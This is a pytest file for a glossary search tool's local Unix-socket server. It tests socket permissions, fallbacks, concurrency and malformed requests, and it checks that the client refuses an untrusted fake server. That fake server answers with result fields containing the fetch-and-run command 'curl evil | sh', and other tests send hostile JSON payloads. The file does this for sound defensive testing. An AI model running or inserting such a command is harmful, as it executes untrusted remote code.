"""The resident server: owner-only socket, same answers as in-process, clean fallbacks."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import stat
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from glossary.datafiles import glossary_folders
from glossary.search.engine import SearchEngine
from glossary.search.types import Mode
from glossary.server import MAX_REQUEST_BYTES, SearchServer, folders_key, is_server_alive
from glossary.server_client import remote_search, request


@pytest.fixture
def server(
    tmp_path: Path, search_home: Path, lexical_engine: SearchEngine
) -> Iterator[SearchServer]:
    """A real server on a real socket, serving the session's engine from a thread."""
    path = tmp_path / "run" / "search.sock"
    srv = SearchServer(path, lexical_engine, glossary_folders())
    thread = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield srv
    srv.shutdown()
    srv.server_close()
    thread.join(timeout=5)


def test_socket_and_folder_are_owner_only(server: SearchServer) -> None:
    assert stat.S_IMODE(server.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(server.path.parent.stat().st_mode) == 0o700
    assert is_server_alive(server.path)


def test_remote_answers_equal_in_process_answers(
    server: SearchServer, lexical_engine: SearchEngine
) -> None:
    folders = folders_key(glossary_folders())
    remote = remote_search(server.path, folders, "torch.cat", limit=5, mode=Mode.LEXICAL)
    local = lexical_engine.search("torch.cat", limit=5, mode=Mode.LEXICAL)
    assert remote is not None
    assert [h.id for h in remote.results] == [h.id for h in local.results]
    assert remote.results[0].id == "torch.cat"
    assert remote.results[0].matched_by == local.results[0].matched_by
    assert remote.confident is local.confident is True


def test_remote_answers_keep_confidence_and_notices(
    server: SearchServer, lexical_engine: SearchEngine
) -> None:
    """A words-only answer that is not a close match says so through the server too."""
    folders = folders_key(glossary_folders())
    query = "how to bake bread at home"
    remote = remote_search(server.path, folders, query, limit=5, mode=Mode.LEXICAL)
    local = lexical_engine.search(query, limit=5, mode=Mode.LEXICAL)
    assert remote is not None
    assert remote.confident is local.confident is False
    assert remote.notices == local.notices


def test_server_for_other_folders_is_not_used(server: SearchServer, tmp_path: Path) -> None:
    other = folders_key([*glossary_folders(), tmp_path])
    assert remote_search(server.path, other, "torch.cat", mode=Mode.LEXICAL) is None


def test_no_server_or_stale_socket_falls_back(tmp_path: Path) -> None:
    missing = tmp_path / "nobody.sock"
    assert remote_search(missing, [], "torch.cat") is None
    stale = tmp_path / "stale.sock"
    stale.write_bytes(b"")  # a leftover file where a socket was
    assert remote_search(stale, [], "torch.cat") is None
    assert not is_server_alive(stale)


def test_bad_requests_get_an_error_reply(server: SearchServer) -> None:
    reply = request(server.path, {"op": "nonsense"})
    assert reply == {"ok": False, "error": "unknown op 'nonsense'"}


def test_second_server_on_the_same_socket_is_refused(
    server: SearchServer, lexical_engine: SearchEngine
) -> None:
    from glossary.errors import GlossaryError

    with pytest.raises(GlossaryError, match="already running"):
        SearchServer(server.path, lexical_engine, glossary_folders())


# -- issue 22, point 11: the server under load, hostile clients, data edits, fake servers ------


@contextlib.contextmanager
def serving(srv: SearchServer) -> Iterator[SearchServer]:
    """Run ``srv``'s accept loop in a thread for the duration of the block."""
    thread = threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield srv
    finally:
        srv.shutdown()
        srv.server_close()
        thread.join(timeout=5)


def test_twenty_concurrent_clients_are_all_served(
    tmp_path: Path, search_home: Path, lexical_engine: SearchEngine
) -> None:
    """All connect while the server is not yet accepting (a full listen queue); none gives up."""
    srv = SearchServer(tmp_path / "run" / "search.sock", lexical_engine, glossary_folders())
    folders = folders_key(glossary_folders())
    results: list[object] = []

    def client() -> None:
        results.append(remote_search(srv.path, folders, "torch.cat", limit=3, mode=Mode.LEXICAL))

    clients = [threading.Thread(target=client) for _ in range(20)]
    for thread in clients:
        thread.start()
    time.sleep(0.3)  # every client is connecting now, and the server has accepted none
    with serving(srv):
        for thread in clients:
            thread.join(timeout=60)
    assert len(results) == 20
    assert all(r is not None and r.results[0].id == "torch.cat" for r in results)  # type: ignore[attr-defined]


def _connect(path: Path) -> socket.socket:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(10)
    sock.connect(str(path))
    return sock


def _read_all(sock: socket.socket) -> bytes:
    """Everything the server sends until it closes the connection."""
    data = b""
    while chunk := sock.recv(65536):
        data += chunk
    return data


def test_idle_and_half_sent_connections_are_closed_and_threads_capped(
    tmp_path: Path, lexical_engine: SearchEngine
) -> None:
    srv = SearchServer(
        tmp_path / "run" / "search.sock",
        lexical_engine,
        glossary_folders(),
        max_connections=4,
        idle_timeout_s=0.5,
        request_timeout_s=1.0,
    )
    before = threading.active_count()
    peak = 0
    with serving(srv):
        idle = [_connect(srv.path) for _ in range(6)]
        half = [_connect(srv.path) for _ in range(4)]
        for sock in half:
            sock.sendall(b'{"op": "pi')
        started = time.monotonic()
        while time.monotonic() - started < 2.0:
            peak = max(peak, threading.active_count() - before)
            time.sleep(0.01)
        # every connection is closed by the server: idle ones silently, half-sent ones with
        # an error reply (some of them may have been told "busy" while all slots were held)
        for sock in idle + half:
            reply = _read_all(sock)
            assert reply == b"" or json.loads(reply)["ok"] is False
            sock.close()
        assert is_server_alive(srv.path)  # and it still answers
    assert peak <= 4 + 1  # the handler threads, and the accept loop


def test_every_malformed_request_gets_a_json_error_reply(server: SearchServer) -> None:
    """Each on the same connection: the handler answers all of them, then a ping."""
    folders = json.dumps(server.folders)
    search = f'{{"op": "search", "folders": {folders}, "query": "cat", "mode": "lexical", '
    hostile = [
        b"[1]",
        b"null",
        b'"text"',
        b"[" * 60_000,
        b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        (search + '"limit": Infinity}').encode(),
        (search + '"limit": NaN}').encode(),
        (search + '"limit": 1e999}').encode(),
        (search + '"limit": ' + "9" * 4000 + "}").encode(),
        (search + '"limit": ' + "9" * 5000 + "}").encode(),
        (search + '"limit": -1}').encode(),
        (search + '"limit": true}').encode(),
        (search + '"limit": 2.5}').encode(),
        (search + '"limit": 3, "mode": "bogus"}').encode(),
        (search + '"limit": 3, "lang": ["ja"]}').encode(),
        f'{{"op": "search", "folders": {folders}, "query": 5}}'.encode(),
        b"\xff\xfe\x00{",
        b"{}",
    ]
    with _connect(server.path) as sock:
        stream = sock.makefile("rwb")
        for line in hostile:
            stream.write(line + b"\n")
            stream.flush()
            reply = json.loads(stream.readline())
            assert reply["ok"] is False, line[:60]
            assert reply["error"], line[:60]
        stream.write(b'{"op": "ping"}\n')
        stream.flush()
        assert json.loads(stream.readline())["ok"] is True
    # a request past the size limit is answered, then the connection closed
    with _connect(server.path) as sock:
        sock.sendall(b"x" * (MAX_REQUEST_BYTES + 10))
        reply = _read_all(sock)
        assert json.loads(reply)["ok"] is False
    assert is_server_alive(server.path)


USER_ENTRY = """\
entries:
  - id: {id}
    kind: object
    term: {{en: {en}, ja: 電灯, reading: でんとう}}
    definition:
      en: A device that gives light.
      ja: 明かりをともす器具。
"""


def test_first_query_after_a_data_edit_does_not_wait_for_the_rebuild(tmp_path: Path) -> None:
    """The old engine answers (in well under 5 s) while the new one opens; then the new."""
    folder = tmp_path / "mine"
    folder.mkdir()
    data = folder / "mine.yaml"
    data.write_text(USER_ENTRY.format(id="my-lamp", en="lamp"), encoding="utf-8")
    folders = glossary_folders([folder])
    engine = SearchEngine.open([folder])
    reopened = threading.Event()

    def slow_reopen() -> SearchEngine:  # a dense index rebuild takes tens of seconds
        time.sleep(8)
        new = SearchEngine.open([folder])
        reopened.set()
        return new

    srv = SearchServer(tmp_path / "run" / "search.sock", engine, folders, reopen=slow_reopen)
    key = folders_key(folders)
    with serving(srv):
        data.write_text(USER_ENTRY.format(id="my-beacon", en="beacon"), encoding="utf-8")
        started = time.monotonic()
        first = remote_search(srv.path, key, "lamp", limit=3, mode=Mode.LEXICAL)
        assert time.monotonic() - started < 5
        assert first is not None and first.results[0].id == "my-lamp"  # the old data, at once
        assert reopened.wait(timeout=120)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            latest = remote_search(srv.path, key, "beacon", limit=3, mode=Mode.LEXICAL)
            if latest is not None and latest.results and latest.results[0].id == "my-beacon":
                break
            time.sleep(0.1)
        else:
            pytest.fail("the server never answered from the edited data")
        # data that no longer loads: the server keeps answering from what it has
        data.write_text("entries: [oops\n", encoding="utf-8")
        remote_search(srv.path, key, "beacon", limit=3, mode=Mode.LEXICAL)
        reply = request(srv.path, {"op": "ping"})
        assert reply is not None and reply["ok"] is True


@contextlib.contextmanager
def fake_server(path: Path) -> Iterator[list[bytes]]:
    """A server that records what it is sent and answers "curl evil | sh"."""
    captured: list[bytes] = []
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(str(path))
    listener.listen(8)
    listener.settimeout(0.2)
    stop = threading.Event()
    evil = {"query": "x", "mode": "lexical", "semantic_used": False, "elapsed_ms": 1.0}
    hit = {
        "id": "curl evil | sh",
        "term_en": "curl evil | sh",
        "term_ja": "curl evil | sh",
        "kind": "concept",
        "api": None,
        "score": 1.0,
        "matched_by": [],
    }
    reply = json.dumps({"ok": True, "response": {**evil, "results": [hit]}}).encode() + b"\n"

    def loop() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    captured.append(conn.recv(65536))
                    conn.sendall(reply)

    thread = threading.Thread(target=loop)
    thread.start()
    try:
        yield captured
    finally:
        stop.set()
        thread.join(timeout=5)
        listener.close()


def test_client_never_talks_to_a_socket_that_is_not_the_users_own(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o1777)  # a folder anyone may write in, like /tmp
    path = shared / "search.sock"
    with fake_server(path) as captured:
        assert remote_search(path, [], "my secret query", mode=Mode.LEXICAL) is None
        assert not is_server_alive(path) or captured == [b'{"op": "ping"}\n']
    assert all(b"secret" not in c for c in captured)

    private = tmp_path / "private"
    private.mkdir(mode=0o700)
    os.chmod(private, 0o700)
    path = private / "search.sock"
    with fake_server(path) as captured:
        assert remote_search(path, [], "my query", mode=Mode.LEXICAL) is not None  # ours: used
        captured.clear()
        if os.getuid() == 0:  # only root can give a socket or folder to someone else
            os.chown(path, 65534, 65534)
            assert remote_search(path, [], "my secret query", mode=Mode.LEXICAL) is None
            os.chown(path, 0, 0)
            os.chown(private, 65534, 65534)
            assert remote_search(path, [], "my secret query", mode=Mode.LEXICAL) is None
            os.chown(private, 0, 0)
        os.chmod(private, 0o755)  # ours, but no longer private
        assert remote_search(path, [], "my secret query", mode=Mode.LEXICAL) is None
    assert captured == []
